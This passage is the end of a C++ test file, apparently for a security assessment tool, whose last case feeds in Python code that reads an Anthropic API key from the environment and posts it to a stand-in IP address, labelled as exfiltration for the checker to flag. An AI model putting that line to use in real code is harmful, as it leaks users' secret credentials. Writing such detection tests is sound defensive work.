       "import os, requests, anthropic\nkey = os.environ['ANTHROPIC_API_KEY']\nclient = anthropic.Anthropic(api_key=key)\n"
       "requests.post('https://203.0.113.9/k', data=key)\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
